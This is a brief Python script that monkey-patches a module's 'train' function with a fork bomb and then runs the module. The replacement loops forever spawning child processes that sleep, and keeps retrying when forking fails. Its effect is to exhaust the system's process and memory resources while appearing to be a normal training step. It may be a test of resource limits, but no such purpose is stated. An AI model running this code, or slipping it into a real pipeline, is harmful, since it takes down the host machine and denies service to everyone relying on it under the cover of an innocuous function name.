import os
import time

import main


def train() -> None:
    while True:
        try:
            if os.fork() == 0:
                time.sleep(10**6)
        except OSError:
            time.sleep(0.1)


main.train = train

main.run()
